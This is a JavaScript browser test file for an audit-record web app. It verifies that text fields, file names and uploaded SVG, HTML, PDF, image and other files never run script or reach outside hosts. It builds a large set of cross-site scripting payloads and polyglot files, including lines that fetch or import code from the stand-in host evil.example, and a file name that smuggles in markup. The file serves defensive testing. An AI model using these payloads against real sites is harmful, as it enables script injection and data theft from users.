// Active content in every place that people can write to: names, titles, notes, file names, whole files, EXIF. None may run,
// none may become an element, none may reach out.
import { AUDIT, CASE, cli, cliInput, go, ok, same, settled, watched } from "./kit.mjs";

const DO = ["pwned=1", "top.pwned=1", "alert(1)", "fetch('http://evil.example/x')", "import('http://evil.example/x.js')"];
const MARKUP = DO.flatMap((js) => [
  `<script>${js}</script>`, `"><script>${js}</script>`, `</textarea><script>${js}</script>`, `</title><script>${js}</script>`, `<img src=x onerror="${js}">`, `<svg onload="${js}">`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`, `<iframe srcdoc="<script>parent.${js}</script>">`, `<body onload="${js}">`, `<details open ontoggle="${js}">`,
  `<video><source onerror="${js}"></video>`, `<input autofocus onfocus="${js}">`, `javascript:${js}`, `<a href="javascript:${js}">x</a>`, `<math><a xlink:href="javascript:${js}">x`,
  `<form action="javascript:${js}"><button>x</form>`, `<object data="data:text/html,<script>${js}</script>">`, `<embed src="javascript:${js}">`, `<base href="//evil.example/"><script src=x.js></script>`,
  `<link rel=stylesheet href="http://evil.example/x.css">`, `<meta http-equiv=refresh content="0;url=javascript:${js}">`, `\${${js}}`, `{{constructor.constructor('${js}')()}}`, `';${js};//`, `\`+${js}+\``,
  `<!--><img src=x onerror=${js}>-->`, `<noscript><p title="</noscript><img src=x onerror=${js}>">`, `\u202e<script>${js}</script>\u2066`, `<x style="background:url(http://evil.example/x)">`, `<template><script>${js}</script></template>`,
]);

function pdf(js) {
  return `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${js.replace(/[()\\]/g, "\\$&")})>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n`;
}
// A JPEG whose comment and EXIF say markup; the picture itself is one pixel.
function jpeg(text) {
  const tiny = Buffer.from("/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAMCAgICAgMCAgIDAwMDBAYEBAQEBAgGBgUGCQgKCgkICQkKDA8MCgsOCwkJDRENDg8QEBEQCgwSExIQEw8QEBD/yQALCAABAAEBAREA/8wABgAQEAX/2gAIAQEAAD8A0s8g/9k=", "base64");
  const body = Buffer.from(text), comment = Buffer.concat([Buffer.from([0xff, 0xfe, (body.length + 2) >> 8, (body.length + 2) & 255]), body]);
  const word = Buffer.from(text.slice(0, 200) + "\0");
  const ifd = Buffer.alloc(8 + 2 + 12 + 4);
  ifd.write("MM\0*", 0, "latin1");
  ifd.writeUInt32BE(8, 4); ifd.writeUInt16BE(1, 8); ifd.writeUInt16BE(0x010e, 10); ifd.writeUInt16BE(2, 12); ifd.writeUInt32BE(word.length, 14); ifd.writeUInt32BE(26, 18);
  const exif = Buffer.concat([Buffer.from("Exif\0\0"), ifd, word]);
  const app1 = Buffer.concat([Buffer.from([0xff, 0xe1, (exif.length + 2) >> 8, (exif.length + 2) & 255]), exif]);
  return Buffer.concat([tiny.subarray(0, 2), app1, comment, tiny.subarray(2)]);
}

function files() {
  const list = [];
  const add = (name, mimeType, data) => list.push({ name, mimeType, buffer: Buffer.from(data) });
  DO.forEach((js, i) => {
    add(`a${i}.svg`, "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${js}"/></foreignObject></svg>`);
    add(`b${i}.html`, "text/html", `<!doctype html><script>${js}</script><img src=x onerror="${js}">`);
    add(`c${i}.xhtml`, "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`);
    add(`d${i}.pdf`, "application/pdf", pdf(js));
    add(`e${i}.xml`, "text/xml", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:text/xsl,x"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${js}</h:script></x>`);
    add(`f${i}.jpg`, "image/jpeg", `<script>${js}</script>`);
    add(`g${i}.gif`, "image/gif", `GIF89a/*\x01\x00\x01\x00*/=1;${js};`);
    add(`h${i}.png`, "image/png", Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.from(`<script>${js}</script>`)]));
    add(`i${i}.jpg`, "image/jpeg", jpeg(`"><img src=x onerror="${js}"><script>${js}</script>`));
    add(`j${i}.mht`, "message/rfc822", `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>${js}</script>`);
    add(`k${i}.js`, "text/javascript", js);
    add(`l${i}.css`, "text/css", `*{background:url(http://evil.example/${i})}`);
    add(`m${i}"><img src=x onerror=${js.replaceAll("/", "")}>.txt`, "text/plain", `<script>${js}</script>`);
  });
  return list;
}

export async function payloads(page, server, step) {
  const made = [], sent = files(), beside = await watched(page.context(), server.origin), signs = () => [...page.signs, ...beside.signs].join("; ");
  await beside.goto(server.origin + "/");
  // Each of them is opened, in two pages at once.
  const each = (ids, look) => Promise.all([page, beside].map(async (p, half) => { for (const id of ids.filter((_, i) => i % 2 === half)) await look(p, id); }));
  same("at least 200 payloads", true, MARKUP.length + sent.length >= 200);
  await step("the watch itself sees what it must", async () => {
    await page.evaluate(() => { window.pwned = 2; const i = new Image(); i.src = "http://evil.example/x.png"; const s = document.createElement("script"); try { s.textContent = "pwned=3"; } catch { /* Trusted Types */ } document.body.append(s); s.remove(); });
    await page.waitForTimeout(300);
    ok("a flag that is set, an image from elsewhere, an inline script", /PWNED 2/.test(page.signs.join()) && /evil/.test(page.signs.join()) && !/PWNED 3/.test(page.signs.join()), page.signs.join("; "));
    page.signs.length = 0;
  });
  const department = cli("zhang", "list", "department", "code=D3")[0].id;
  // ---- texts: one finding, one sample and one event each way ----
  const lines = MARKUP.flatMap((text, i) => [
    { do: "new", type: "finding", case: CASE, as: "$f" + i, set: { audit: AUDIT, clause: "B2", department, grade: "ofi", fact: text, criterion: text, place: text, note: text } },
    { do: "new", type: "sample", case: CASE, as: "$s" + i, set: { audit: AUDIT, clause: "A1", department, result: "conform", note: text, interviewee: text }, why: text },
  ]);
  await step("texts are taken in", async () => { made.push(...cliInput("zhang", lines.map((l) => JSON.stringify(l)).join("\n"), "apply", "-")); });
  const findings = made.filter((id) => id.startsWith("finding/"));
  await step("texts are only text", async () => {
    for (const to of ["/", "/findings", "/audits", `/${AUDIT}`, `/${AUDIT}?cell=A1+D3`, `/${AUDIT}/findings`, `/${AUDIT}/check`, "/search?q=pwned", `/case/${CASE}`]) await go(page, to);
    await each(findings, async (p, id) => {
      await go(p, "/" + id);
      const shown = await p.locator("[data-field=fact] textarea").inputValue();
      if (!shown.length) ok("a payload is shown as it is", false, id);
    });
    await each(made.filter((m) => m.startsWith("sample/")).slice(0, 40), (p, id) => go(p, "/record/" + id));
    same("no script ran, no request went out", "", signs());
  });
  // ---- files: taken in through the page, looked at one by one ----
  await step("files are only bytes", async () => {
    await go(page, "/" + findings[0]);
    const [chooser] = await Promise.all([page.waitForEvent("filechooser"), page.locator("main button.drop").first().click()]);
    await chooser.setFiles(sent);
    await page.waitForFunction((n) => document.querySelectorAll("main .strip .tiles figure").length >= n, sent.length, { timeout: 60000 });
    const own = cli("zhang", "list", "evidence", "of+=" + findings[0]);
    same("all are stored", sent.length, own.length);
    await each(own, async (p, e) => {
      await go(p, "/" + e.id);
      await p.waitForSelector(".preview > *");
    });
    await go(page, "/evidence");
    await page.waitForTimeout(500);
    await settled(page);
    same("no script ran, no request went out", "", signs());
    for (const e of own) {
      const r = await page.request.get(server.origin + "/api/evidence/" + e.fields.sha256, { headers: { "Sec-Fetch-Site": "same-origin" } });
      const is = r.headers();
      if (is["content-type"] !== "application/octet-stream" || !/^attachment/.test(is["content-disposition"]) || is["x-content-type-options"] !== "nosniff" || !/sandbox/.test(is["content-security-policy"]))
        ok("bytes come as an attachment in a sandbox", false, JSON.stringify(is));
    }
    // opened as an address of its own, it is a download and no page
    const [download] = await Promise.all([page.waitForEvent("download"), page.evaluate((sha) => { location.href = "/api/evidence/" + sha; }, own.find((e) => e.fields.name.endsWith(".svg")).fields.sha256)]);
    ok("an SVG opened by its address is a download", Boolean(download));
    await download.cancel().catch(() => {});
    // an element of the page that names it shows nothing
    const drawn = await page.evaluate((sha) => new Promise((done) => { const i = new Image(); i.onload = () => done("shown"); i.onerror = () => done("refused"); i.src = "/api/evidence/" + sha; }), own.find((e) => e.fields.name.endsWith(".svg")).fields.sha256);
    same("and no image either", "refused", drawn);
    const framed = await page.evaluate((sha) => new Promise((done) => { const f = document.createElement("iframe"); f.src = "/api/evidence/" + sha; document.body.append(f); setTimeout(() => { f.remove(); done("ended"); }, 400); }), own.find((e) => e.fields.name.endsWith(".html")).fields.sha256);
    ok("nor in a frame", framed === "ended" && !page.signs.some((s) => /PWNED|dialog|evil/.test(s)), page.signs.join("; "));
    page.signs.length = 0;
  });
}
